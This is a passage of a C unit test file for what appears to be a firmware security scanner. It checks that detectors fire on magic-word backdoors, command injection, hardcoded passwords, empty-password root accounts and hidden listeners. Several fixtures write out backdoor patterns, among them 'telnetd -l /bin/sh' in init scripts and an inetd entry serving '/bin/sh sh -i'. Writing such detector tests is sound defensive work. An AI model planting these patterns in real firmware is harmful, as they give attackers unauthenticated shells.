	} cases[] = {
		{ "b=\"w302r_mfg", "command=\"telnetd", false, SEV_CRITICAL },
		{ "b=\"open-sesame-77", "command=\"telnetd", false, SEV_HIGH },
		{ "b=\"w302r_mfg", NULL, false, SEV_MEDIUM },
		{ "b=\"GET ", "command=\"/sbin/reboot", false, -1 },
		{ "b=\"open-sesame-77", NULL, false, -1 },
		{ "b=\"open-sesame-77", "command=\"telnetd", true, -1 },
		{ "b=#0x53634d4d", "command=\"/bin/cfg", false, SEV_CRITICAL },
		{ "b=#4", "command=\"/bin/cfg", false, -1 },
		{ "b=\"\xd0\xb2J", "command=\"/bin/cfg", false, -1 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/httpd");
		listen_and(&k, cases[i].login, cases[i].word, cases[i].run);
		fake_run(&k);
		struct finding *f = fake_found(&k, "fw.magic-value");
		assert_int_equal(f ? (int)f->severity : -1, cases[i].severity);
		fake_end(&k);
	}
}

static void a_magic_word_that_did_not_match_opens_nothing(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/httpd");
	listen_and(&k, false, NULL, NULL);
	record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recvfrom}", "b=\"open-sesame-77", NULL), FWC_RESULT, 1);
	fake_call(&k, CALL_RUN, "system", "command=\"/bin/date", NULL);
	fake_run(&k);
	assert_null(fake_found(&k, "fw.magic-value"));
	fake_end(&k);
}

/* The emulator's model said "different", and the path that was forced behind it takes the other side. */
static void a_forced_match_counts_as_a_match(void **state)
{
	(void)state;
	for (int named = 0; named < 2; named++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/httpd");
		listen_and(&k, false, NULL, NULL);
		record_int(fake_call(&k, CALL_COMPARE, "strncmp", "left=\"{socket:inet datagram}", "right=\"open-sesame-77", NULL),
			   FWC_RESULT, 1);
		fake_path(&k, 2, 1, k.order);
		struct scene_program *p = &k.programs[0];
		record_str(k.paths[0][p->npaths - 1], FWP_CONDITION,
			   named ? "111a: goes to 111c, after strncmp() = -1" : "111a: goes to 111c, after time() = 7");
		fake_call(&k, CALL_RUN, "system", "command=\"/sbin/reboot", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, named);
		fake_end(&k);
	}
}

static void checked_input_is_no_injection(void **state)
{
	(void)state;
	static const struct {
		const char *check, *source;
		bool fires;
	} cases[] = { { NULL, "command=\"ping {getenv:QUERY_STRING}", true }, { NULL, "command=\"ping {recv}", true },
		      { "text=\"{recv}", "command=\"ping {recv}", false }, { NULL, "command=\"ping {argv}", false },
		      { NULL, "command=\"ping {file:/etc/host.conf}", false }, { NULL, "command=\"ping {getenv:HOME}", false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "www/cgi-bin/ping");
		if (cases[i].check)
			fake_call(&k, CALL_RESOLVE, "inet_pton", "family=#2", cases[i].check, NULL);
		fake_call(&k, CALL_RUN, "system", cases[i].source, NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.command-injection") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

static void a_name_that_was_compared_is_no_outside_path(void **state)
{
	struct fake k;
	(void)state;
	fake_begin(&k);
	fake_program(&k, "www/cgi-bin/get");
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{getenv:QUERY_STRING}", "b=\"trend", NULL);
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{getenv:QUERY_STRING}", "mode=\"w", NULL);
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{file:/etc/app.conf}", "mode=\"w", NULL);
	nothing_above_info(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "www/cgi-bin/get");
	(void)fake_call(&k, CALL_FILE, "fopen", "path=\"/data/{getenv:HOME}/{getenv:QUERY_STRING}", "mode=\"w", NULL);
	fires(&k, "fw.outside-text-to-path", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/wifi");
	(void)fake_call(&k, CALL_FILE, "unlink", "path=\"/tmp/{command:iwlist wlan0 scan}", NULL);
	fires(&k, "fw.outside-text-to-path", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/logd");
	(void)fake_call(&k, CALL_WRITE, "syslog", "format=\"{socket:inet datagram}", NULL);
	fires(&k, "fw.outside-text-to-path", SEV_HIGH);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/logd");
	(void)fake_call(&k, CALL_WRITE, "syslog", "format=\"{file:/usr/share/locale/de}", NULL);
	nothing_above_info(&k);
	fake_end(&k);
}

static void a_page_that_nothing_names_is_told(void **state)
{
	struct fake k;
	(void)state;
	/* No menu at all: nothing is missing from it. */
	fake_begin(&k);
	(void)fake_file(&k, "www/cgi-bin/status.cgi", SCENE_SCRIPT, "#!/bin/sh\necho\n");
	(void)fake_file(&k, "www/index.html", SCENE_OTHER, "<html></html>");
	nothing_above_info(&k);
	assert_null(fake_found(&k, "fw.orphan-page"));
	fake_end(&k);

	fake_begin(&k);
	(void)fake_file(&k, "www/index.html", SCENE_OTHER,
			"<a href=\"cgi-bin/status.cgi?x=1\">status</a> <script>go('setup')</script>");
	(void)fake_file(&k, "www/cgi-bin/status.cgi", SCENE_SCRIPT, "#!/bin/sh\necho\n");
	(void)fake_file(&k, "www/setup.html", SCENE_OTHER, "<html></html>");
	(void)fake_file(&k, "www/404.html", SCENE_OTHER, "<html></html>");
	(void)fake_file(&k, "usr/share/doc/www/notes.html", SCENE_OTHER, "<html></html>");
	nothing_above_info(&k);
	assert_null(fake_found(&k, "fw.orphan-page"));
	(void)fake_file(&k, "www/cgi-bin/fac.cgi", SCENE_SCRIPT, "#!/bin/sh\ntelnetd -l /bin/sh\n");
	fires(&k, "fw.orphan-page", SEV_MEDIUM);
	fake_end(&k);

	fake_begin(&k);
	(void)fake_file(&k, "www/index.html", SCENE_OTHER, "<a href=\"a.html\">a</a> <form action=\"/goform/save\">");
	(void)fake_file(&k, "www/a.html", SCENE_OTHER, "<html></html>");
	fake_program(&k, "usr/sbin/httpd");
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{socket:inet stream}", "b=\"/goform/save", NULL);
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{file:/etc/x}", "b=\"/goform/other", NULL);
	nothing_above_info(&k);
	(void)fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{socket:inet stream}", "b=\"/goform/factory", NULL);
	fires(&k, "fw.orphan-page", SEV_LOW);
	fake_end(&k);
}

/* A program that reads its server from a file: what the image and its scripts say of that file. */
static const struct {
	const char *path, *text;
	enum scene_kind kind;
	const char *source;
	int severity;
	uint64_t port;
} graphs[] = {
	{ "etc/app.conf", "# server=203.0.113.9\nserver=10.0.0.2\nnetmask=255.255.255.0\n", SCENE_OTHER, "file:/etc/app.conf",
	  -1, 0 },
	{ "etc/other.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
	{ "etc/app.conf", "dns1=203.0.113.53\nname=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
	{ "etc/app.conf", "server=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", SEV_LOW, 515 },
	{ "etc/app.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", SEV_MEDIUM, 515 },
	{ "etc/app.json", "{\n \"server\": \"203.0.113.9\",\n}\n", SCENE_OTHER, "file:/etc/app.json", SEV_MEDIUM, 515 },
	{ "etc/app.xml", "<a>\n <server>203.0.113.9</server>\n</a>\n", SCENE_OTHER, "file:/etc/app.xml", SEV_MEDIUM, 515 },
	{ "etc/config/app", "config x\n\toption server '203.0.113.9'\n", SCENE_OTHER, "file:/etc/config/app", SEV_MEDIUM,
	  515 },
	{ "etc/init.d/S1", "H=203.0.113.9\necho \"server=$H\" > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
	  SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "cat > /etc/app.conf <<E\nserver=203.0.113.9\nE\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM,
	  515 },
	{ "etc/init.d/S1", "sed -i 's/^server=.*/server=203.0.113.9/' /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
	  SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "echo server=$1 > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf", -1, 0 },
	{ "etc/init.d/S1", "export HOST=203.0.113.9\nbin/app\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9\nexport HOST\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9 /bin/app\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "HOST=203.0.113.9\n/bin/app\n", SCENE_SCRIPT, "getenv:HOST", -1, 0 },
	{ "etc/init.d/S1", "nvram set server=203.0.113.9\n", SCENE_SCRIPT, "config:server", SEV_MEDIUM, 515 },
	{ "etc/init.d/S1", "nvram set other=203.0.113.9\n", SCENE_SCRIPT, "config:server", -1, 0 },
};

static void settings_that_the_image_holds_are_defaults(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(graphs); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, graphs[i].path, graphs[i].kind, graphs[i].text);
		fake_program(&k, "bin/app");
		(void)fake_call(&k, CALL_NETWORK, "connect", "fd=#3",
				arena_printf(&k.arena, "address=~{%s}/515", graphs[i].source), NULL);
		fake_run(&k);
		const struct finding *f = fake_found(&k, "fw.fixed-destination");
		int got = f ? (int)f->severity : -1;
		if (got != graphs[i].severity)
			fail_msg("%zu: %d, expected %d: %s", i, got, graphs[i].severity, graphs[i].text);
		if (f) {
			assert_int_equal(record_get_uint(f->observed, OBS_PORT), graphs[i].port);
			assert_true(f->nsteps >= 2);
			assert_true(span_is(record_get_text(f->steps[0], STEP_MEMBER), graphs[i].path));
		}
		fake_end(&k);
	}
}

static void a_key_that_is_compared_picks_its_setting(void **state)
{
	struct fake k;
	(void)state;
	fake_begin(&k);
	(void)fake_file(&k, "etc/app.conf", SCENE_OTHER, "update=203.0.113.7\nserver=10.0.0.2\n");
	fake_program(&k, "bin/app");
	(void)fake_call(&k, CALL_COMPARE, "strncmp", "a=\"{file:/etc/app.conf}", "b=\"server=", NULL);
	(void)fake_call(&k, CALL_NETWORK, "connect", "fd=#3", "address=~{file:/etc/app.conf}/515", NULL);
	nothing_above_info(&k);
	fake_end(&k);
}

static void a_password_is_found_and_not_shown(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/menu");
	fake_call(&k, CALL_SEND, "send", "fd=#4", "data=\"Password: ", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"swordfish9", NULL);
	fires(&k, "fw.fixed-credential", SEV_HIGH);
	assert_false(json_has(&k, fake_found(&k, "fw.fixed-credential"), "swordfish9"));
	fake_end(&k);

	fake_begin(&k);                          /* nobody was asked for a password: a word among others */
	fake_program(&k, "bin/menu");
	fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"swordfish9", NULL);
	fake_run(&k);
	assert_null(fake_found(&k, "fw.fixed-credential"));
	fake_end(&k);
}

/* Met in Debian's own programs: searches in text, words of files, accounts looked up to give up rights,
 * anonymous FTP, structures that nobody filled. */
static void what_ordinary_programs_do_is_nothing(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "usr/sbin/lpd");
	fake_call(&k, CALL_LOGIN, "getpwnam", "name=\"daemon", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{stdin}", "right=\"printer", NULL);
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"Password: ", NULL);
	fake_call(&k, CALL_COMPARE, "strstr", "left=\"{socket:accepted}", "right=\"cgi-bin", NULL);
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{file:/var/spool/lpd}", "right=\"hostname", NULL);
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS -wget@\r\n", NULL);
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS TROY CUBE EAR SCAR SAUL BATH\r\n", NULL);
	fake_call(&k, CALL_SEND, "sendto", "fd=#5", "data=\"x", "to=@40.125.15.126/0", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"\x01", NULL);
	nothing_above_info(&k);
	fake_end(&k);
}

/* Met in programs of other distributions: each is one call after those that led to it. */
static void what_servers_and_clients_do_is_nothing(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "usr/sbin/daemon");
	/* a view of the kernel's own server */
	fake_call(&k, CALL_RUN, "system", "command=\"mount -t nfsd nfsd /proc/fs/nfsd", NULL);
	fake_call(&k, CALL_MOUNT, "mount", "source=\"nfsd", "target=\"/proc/fs/nfsd", "type=\"nfsd", NULL);
	/* a number, or digits, where an address goes; which way packets would go */
	call_home(&k, "to=@268474468.0.0.0/39868");
	call_home(&k, "to=@24.0.0.0/67");
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
	record_int(fake_call(&k, CALL_NETWORK, "socket", "family=#2", "type=#2", "protocol=#17", NULL), FWC_RESULT, 6);
	fake_call(&k, CALL_NETWORK, "connect", "fd=#6", "to=@203.0.113.1/9", NULL);
	record_str(fake_call(&k, CALL_NETWORK, "getsockname", "fd=\"socket inet datagram", NULL), FWC_FUNCTION, "way");
	/* a library that tests its crypt() */
	fake_call(&k, CALL_COMPARE, "strcmp", "left=\"{result of a function}", "right=\"$2y$04$abcdefghijklmnopqrstu", NULL);
	/* the server's answer behind PASS, settings of the network's, netlink */
	fake_call(&k, CALL_SEND, "write", "fd=#5", "data=\"PASS ", NULL);
	fake_call(&k, CALL_COMPARE, "strncasecmp", "left=\"{socket:inet stream}", "right=\"-ERR [AUTH] too many logins", NULL);
	record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{file:/etc/network/interfaces}", "b=\"rename", NULL),
		   FWC_RESULT, 0);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/run/{file:/run/network/state}", NULL);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/sys/{socket:netlink raw}", NULL);
	fake_call(&k, CALL_FILE, "unlink", "path=\"/run/{socket:unix stream}", NULL);
	nothing_above_info(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "usr/sbin/hostapd");
	/* names of interfaces that are none yet */
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"mon.", NULL);
	struct record *closed = fake_call(&k, CALL_INTERFACE, "ioctl", "fd=\"standard", "request=#0x8914", NULL);
	record_int((struct record *)closed->v[FWC_ARGS].records.v[0], ARG_NUMBER, 0);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"mon.%s", NULL);
	fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#5", "request=#0x8914", "data=\"vlan270287284", NULL);
	nothing_above_info(&k);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "usr/sbin/telnetd");
	fake_call(&k, CALL_RUN, "system", "command=\"/usr/sbin/telnetd", NULL);
	nothing_above_info(&k);
	fake_end(&k);
}

static void a_password_that_nobody_could_type_is_none(void **state)
{
	(void)state;
	static const char *const values[] = { "value=\"@\5", "value=\"hunter22" };
	for (size_t i = 0; i < ARRAY_LEN(values); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/imap-send");
		fake_call(&k, CALL_NETWORK, "curl_easy_setopt", "option=#10174", values[i], NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.fixed-credential") != NULL, i);
		fake_end(&k);
	}
}

static void words_that_name_contents_and_protocols_are_no_magic(void **state)
{
	(void)state;
	static const char *const words[] = { "b=\"application/pdf", "b=#0x4d3c2b1a", "b=#0x63825363", "b=#0x4d3c2b1b" };
	for (size_t i = 0; i < ARRAY_LEN(words); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		listen_and(&k, false, words[i], "command=\"/bin/filter");
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, i == ARRAY_LEN(words) - 1);
		fake_end(&k);
	}
}

/* What arrives on a connection of its own making, or at a port that the kernel chose, came in at no listener. */
static void only_what_comes_in_at_the_listener_counts(void **state)
{
	(void)state;
	static const struct {
		const char *bind, *run;
		bool fires;
	} cases[] = {
		{ "address=@0.0.0.0/7329", "command=\"{socket:accepted}", true },
		{ "address=@0.0.0.0/0", "command=\"{socket:accepted}", false },
		{ "address=@0.0.0.0/7329", "command=\"{socket:inet stream}", false },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", cases[i].bind, NULL);
		fake_call(&k, CALL_RECEIVE, "recv", "fd=#5", NULL);
		fake_call(&k, CALL_RUN, "system", cases[i].run, NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

static void passwords_in_files_of_settings(void **state)
{
	(void)state;
	static const struct {
		const char *path, *text, *title;         /* NULL: nothing of it */
	} cases[] = {
		/* what only speaks of a password */
		{ "etc/nsswitch.conf", "passwd: files systemd\npasswd: compat\n", NULL },
		{ "etc/pam.d/login", "password required pam_unix.so\n", NULL },
		{ "etc/ssh/sshd_config", "PasswordAuthentication yes\nPermitRootLogin prohibit-password\n", NULL },
		{ "etc/samba/smb.conf", "unix password sync = yes\npasswd program = /usr/bin/passwd %u\npasswd chat = *new*\n", NULL },
		{ "etc/app.conf", "#password = hunter22\n; password=hunter22\n// password: hunter22\npassword=\npassword_file /etc/x\n",
		  NULL },
		{ "etc/app.conf", "password=$PASS\npassword = ${X}\npassword: <password>\npassword=YOUR_PASSWORD\npassword=xxxxxxxx\n",
		  NULL },
		{ "etc/app.conf", "password = the word that you were given\npassword_min_length = 1234\nshow_password = 1234\n", NULL },
		{ "srv/web/lang/de.json", "{\"password\": \"Passwort\"}\n", NULL },
		{ "etc/services", "kpasswd 464/tcp\n", NULL },
		{ "etc/app.json", "/**\n * For the token:\n\"Pin\" : \"hunter22\"\n **/\n", NULL },
		{ "etc/app.cfg.lua", "-- password = \"hunter22\"\nSET PASSWORD FOR 'a'@'b' = 'hunter22'\n", NULL },
		{ "etc/radius/sites-available/x", "secret = hunter22\n", NULL },
		{ "etc/labels.ini", "Password=password\n", NULL },
		{ "etc/api.json", "{ \"password\": { \"type\": \"string\" } }\n", NULL },
		{ "etc/users.xml", "<!-- <user name=\"a\"\n password=\"hunter22\"/>\n-->\n", NULL },
		{ "etc/ppp/chap-secrets", "# client server secret\n", NULL },
		/* what is one */
		{ "etc/app.conf", "password=hunter22\n", "in clear: password" },
		{ "etc/app.conf", "export SMTP_PASSWORD=hunter22\n", "in clear: SMTP_PASSWORD" },
		{ "etc/cwmp.conf", "[cwmp]\nacs_username=cwmp\nacs_password=hunter22\ncpe_password = 'hunter23'\n", "2 passwords in clear" },
		{ "etc/wpa_supplicant.conf", "network={\n\tssid=\"x\"\n\tpsk=\"hunter22\"\n}\n", "in clear: psk" },
		{ "etc/config/wireless", "config wifi-iface\n\toption key 'hunter22'\n", "in clear: key" },
		{ "etc/mosquitto/bridge.conf", "remote_username a\nremote_password hunter22\n", "in clear: remote_password" },
		{ "etc/app.json", "{ \"user\": \"a\", \"password\": \"hunter22\" }\n", "in clear: password" },
		{ "etc/db_default_cfg.xml", "<DM name=\"Pass\" val=\"hunter22\"/>\n<DM name=\"Port\" val=\"8080\"/>\n", "in clear: Pass" },
		{ "etc/tree.xml", "<User Name=\"a\" Password=\"hunter22\"/>\n", "in clear: Password" },
		{ "etc/tree.xml", "<Password>hunter22</Password>\n", "in clear: Password" },
		{ "etc/app.yaml", "mqtt:\n  password: hunter22\n", "in clear: password" },
		{ "etc/ppp/chap-secrets", "# client server secret\nunit * \"hunter22\" *\n", "in clear: password" },
		{ "etc/httpd.conf", "A:*\n/cgi-bin:admin:hunter22\n", "in clear: password" },
		{ "etc/httpd.conf", "/cgi-bin:admin:$1$abcdefgh$0123456789012345678901\n", "hashed: password" },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, cases[i].path, scene_kind_of(span_str(cases[i].path), span_str(cases[i].text)), cases[i].text);
		fake_run(&k);
		const struct finding *f = fake_found(&k, "fw.fixed-credential");
		if (cases[i].title ? !f || !strstr(f->title, cases[i].title) : f != NULL)
			fail_msg("%s: %s: %s", cases[i].path, f ? f->title : "nothing", cases[i].text);
		assert_false(f && json_has(&k, f, "hunter"));
		fake_end(&k);
	}
}

static void services_of_android_are_read(void **state)
{
	(void)state;
	static const struct {
		const char *text, *title;                /* NULL: no remote shell */
		unsigned line;
	} cases[] = {
		{ "on boot\n    start adbd\n# service x /system/bin/telnetd\n", NULL, 0 },
		{ "service console /system/bin/sh\n    class core\n    user telnetd\n", NULL, 0 },
		{ "on boot\n    ifup lo\nservice t /system/bin/busybox telnetd -l /system/bin/sh\n    class main\n",
		  "offers a shell without a log-in by telnetd on port 23, at start-up", 3 },
		{ "service t /sbin/adbd\n    class core\n    disabled\n", "starts adbd, at start-up, on a condition", 1 },
		{ "on boot\n    exec - root root -- /system/bin/telnetd -p 99\n", "starts telnetd on port 99, at start-up", 2 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		assert_int_equal(scene_kind_of(SPAN_LIT("init.rc"), span_str(cases[i].text)), SCENE_SCRIPT);
		struct scene_file *f = fake_file(&k, "init.rc", SCENE_SCRIPT, cases[i].text);
		scene_find_boot(f, 1, NULL, 0, &k.arena);
		fake_run(&k);
		const struct finding *found = fake_found(&k, "fw.remote-shell");
		if (cases[i].title ? !found || !strstr(found->title, cases[i].title) : found != NULL)
			fail_msg("number %zu: %s", i, found ? found->title : "nothing");
		fake_end(&k);
	}
}

static void a_copy_of_accounts_beside_live_ones_weighs_less(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	(void)fake_file(&k, "etc/passwd", SCENE_ACCOUNTS, "root:abJnggxhB/yWI:0:0:root:/:/bin/sh\n");
	(void)fake_file(&k, "usr/share/factory/passwd", SCENE_ACCOUNTS, "svc:x:0:0::/:/bin/sh\nroot::0:0:root:/:/bin/sh\n");
	fake_run(&k);
	unsigned copies = 0;
	for (uint32_t i = 0; i < k.nfound; i++)
		if (strstr(k.found[i]->title, "once this copy is put in place")) {
			copies++;
			assert_int_equal(k.found[i]->severity, strstr(k.found[i]->title, "svc") ? SEV_LOW : SEV_MEDIUM);
		}
	assert_int_equal(copies, 2);
	fake_end(&k);
}

#define BODY "MIIBQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD\n"

static void accounts_and_keys(void **state)
{
	(void)state;
	static const struct {
		const char *path, *text;
		enum scene_kind kind;
		int severity;
		const char *rule, *trait;
	} cases[] = {
		{ "etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:*:99:99::/:/bin/false\n", SCENE_ACCOUNTS, -1,
		  "fw.weak-account", "" },
		{ "etc/passwd", "root::0:0:root:/root:/bin/sh\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "empty password" },
		{ "etc/passwd", "svc::5:5::/:/bin/sh\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account", "empty password" },
		{ "etc/passwd", "svc::5:5::/:/usr/sbin/nologin\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
		{ "etc/passwd", "root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account",
		  "second account with user number 0" },
		/* who is called something else but has number 0 alone is root */
		{ "etc/passwd", "admin:x:0:0::/:/bin/sh\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
		/* copies that a start-up script puts in place */
		{ "etc/defaults/shadow", "root::10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account",
		  "empty password" },
		{ "etc/passwd.bak", "admin::0:0:root:/:/bin/sh\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "empty password" },
		{ "etc_ro/passwd", "root::0:0:root:/:/bin/sh\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "empty password" },
		{ "etc/shadow-", "root::10933:0:99999:7:::\n", SCENE_OTHER, -1, "fw.weak-account", "" },
		{ "etc/pam.d/passwd", "@include common-password\npassword required pam_unix.so\n", SCENE_OTHER, -1, "fw.weak-account",
		  "" },
		{ "srv/web/passwd.txt", "user:pass\n", SCENE_OTHER, -1, "fw.weak-account", "" },
		{ "etc/shadow", "root:$1$abcdefgh$0123456789012345678901:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM,
		  "fw.weak-account", "fixed password" },
		{ "etc/shadow",
		  "root:$6$abcdefgh$9ehA1XIe9sCJhvBeN5h.RC6LqfRSSWtoz7EQ8yIGIjMhjV.YuAGz92H/3NCOenRyWVHeI7yYtjYttPHAVf97S0:10933:0:99999:7:::\n",
		  SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "guessable password" },
		{ "etc/shadow", "svc:$1$abcdefgh$MY664lZ4/dfiHNpYW23//.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM,
		  "fw.weak-account", "guessable password" },
		{ "etc/shadow", "svc:$1$abcdefgh$jVzdEBf0V6boUsqBR981U.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_LOW,
		  "fw.weak-account", "fixed password" },
		{ "etc/shadow", "root:$6$rounds=999999999$abcdefgh$x:1:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account",
		  "fixed password" },
		{ "etc/shadow", "root:*:10933:0:99999:7:::\ndaemon:!:1::::::\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
		{ "etc/ssl/key.pem", "-----BEGIN RSA PRIVATE KEY-----\n" BODY BODY "-----END RSA PRIVATE KEY-----\n", SCENE_KEYS,
		  SEV_MEDIUM, "fw.private-key", "" },
		{ "etc/ssl/ca.pem", "-----BEGIN CERTIFICATE-----\n" BODY BODY "-----END CERTIFICATE-----\n", SCENE_KEYS, -1,
		  "fw.private-key", "" },
		{ "default.prop", "ro.secure=0\n", SCENE_OTHER, SEV_MEDIUM, "fw.debug-left", "Android for developers" },
		{ "default.prop", "ro.secure=1\n#ro.debuggable=1\nro.adb.secure=1\n", SCENE_OTHER, -1, "fw.debug-left", "" },
		{ "root/.ssh/authorized_keys", "ssh-rsa AAAA x\n", SCENE_KEYS, SEV_MEDIUM, "fw.fixed-credential", "" },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		assert_int_equal(scene_kind_of(span_str(cases[i].path), span_str(cases[i].text)), cases[i].kind);
		(void)fake_file(&k, cases[i].path, cases[i].kind, cases[i].text);
		fake_run(&k);
		struct finding *f = fake_found(&k, cases[i].rule);
		if ((f ? (int)f->severity : -1) != cases[i].severity)
			fail_msg("number %zu", i);
		if (f && cases[i].trait[0])
			assert_true(span_is(f->observed->v[OBS_TRAITS].texts.v[0], cases[i].trait));
		fake_end(&k);
	}
}

static void tables_of_services_are_read(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::sysinit:/etc/init.d/rcS\n#::respawn:telnetd -l /bin/sh\n");
	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n");
	fake_run(&k);
	assert_int_equal(k.nfound, 0);
	fake_end(&k);
	fake_begin(&k);
	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n");
	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w\n"
			"2325 stream tcp nowait root /bin/sh sh -i\n");
	fake_run(&k);
	assert_int_equal(k.nfound, 3);
	assert_int_equal(k.found[0]->severity, SEV_CRITICAL);
	fake_end(&k);
}

static void patients_fields_to_a_fixed_address(void **state)
{
	(void)state;
	static const struct {
		const char *to, *text;
		int severity;
	} cases[] = {
		{ "to=@203.0.113.5/515", "data=\"MSH|^~\\&|MON|\rPID|1||{file:/tmp/patient}", SEV_HIGH },
		{ "to=@203.0.113.5/515", "data=\"patient_name={x};birth_date={y}", SEV_HIGH },
		{ "to=~203.0.113.5/515", "data=\"MSH|^~\\&|MON|", -1 },
		{ "to=@203.0.113.5/515", "data=\"GET / HTTP/1.0\r\n", -1 },
		{ "to=@127.0.0.1/515", "data=\"MSH|^~\\&|MON|", -1 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		call_home(&k, cases[i].to);
		fake_call(&k, CALL_SEND, "send", "fd=#5", cases[i].text, NULL);
